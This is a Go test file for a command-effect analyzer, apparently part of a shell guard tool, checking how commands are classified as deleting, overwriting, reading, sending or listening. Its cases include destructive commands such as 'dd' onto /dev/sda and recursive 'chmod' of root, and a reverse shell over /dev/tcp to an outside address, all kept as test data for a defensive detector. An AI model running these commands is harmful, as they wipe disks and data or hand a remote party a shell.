package effect_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/ctxhook/ctxhook/pkg/guard/effect"
	"github.com/ctxhook/ctxhook/pkg/guard/follow"
	"github.com/ctxhook/ctxhook/pkg/guard/rule"
	"github.com/ctxhook/ctxhook/pkg/guard/shell"
	"github.com/ctxhook/ctxhook/rules"
)

// effects writes down what the last call of a text does: kind, target and how.
func effects(text string) []string {
	s := follow.Parse(text, shell.Options{Models: rules.Command, Functions: rules.Function, Home: "/home/me"})
	var out []string
	for _, e := range effect.Of(s, len(s.Calls)-1, effect.Dirs{Home: "/home/me"}) {
		words := []string{string(e.Kind)}
		if e.Target != nil {
			words = append(words, e.Target.String())
		}
		for _, f := range []struct {
			is   bool
			name string
		}{{e.Recursive, "recursive"}, {e.Force, "force"}, {e.All, "all"}, {e.Class&rule.ClassSetOf("made") != 0, "made"}} {
			if f.is {
				words = append(words, f.name)
			}
		}
		out = append(out, strings.Join(words, " "))
	}
	return out
}

func TestOf(t *testing.T) {
	tests := []struct {
		name, text string
		want       []string
	}{
		{"nothing", "ls -la", nil},
		{"delete", "rm a b", []string{"delete a", "delete b"}},
		{"a tree", "rm -rf a", []string{"delete a recursive force"}},
		{"files by their names", "rm -rf a.tgz *.log .npmrc", []string{"delete a.tgz force", "delete *.log force", "delete .npmrc force"}},
		{"directories with a dot", "rm -r app.d lib.js", []string{"delete app.d recursive", "delete lib.js recursive"}},
		{"nothing named", `rm -rf ""`, nil},
		{"help only", "rm -rf a --help", nil},
		{"all that find finds", "find a -delete", []string{"delete a/** recursive force"}},
		{"some of what find finds", "find a -name '*.o' -delete", []string{"delete a/*.o force"}},
		{"what the text made", "mkdir a && rm -r a", []string{"delete a recursive made"}},
		{"the database of the tests", "RAILS_ENV=test rails db:drop", nil},
		{"only deletion minds who made it", "mkdir a && mv a b", []string{"move a", "overwrite b"}},
		{"moved", "mv a b c", []string{"move a", "move b", "overwrite c"}},
		{"written", "echo x > a", []string{"overwrite a force"}},
		{"appended", "echo x >> a", []string{"append a"}},
		{"both streams", "make &> log", []string{"overwrite log force"}},
		{"thrown away", "make > /dev/null 2>&1", nil},
		{"no directory is written", "cat <x> a/", []string{"read x"}},
		{"read", "sort < a", []string{"read a"}},
		{"device", "dd if=/dev/zero of=/dev/sda", []string{"overwrite /dev/sda force", "read /dev/zero"}},
		{"modes", "chmod -R 755 a", []string{"mode a recursive"}},
		{"mode forgotten", "chmod -R /", []string{"mode / recursive"}},
		{"owners", "chown me: a b", []string{"owner a", "owner b"}},
		{"socket", "echo hi > /dev/tcp/192.0.2.1/80", []string{"send /dev/tcp/192.0.2.1/80"}},
		{"shell on a socket", "bash -i >& /dev/tcp/192.0.2.1/80", []string{"listen /dev/tcp/192.0.2.1/80"}},
		{"without a word for it", "git push --force", []string{"push force"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, effects(tt.text)); diff != "" {
				t.Errorf("%s (-want +got):\n%s", tt.text, diff)
			}
		})
	}
}
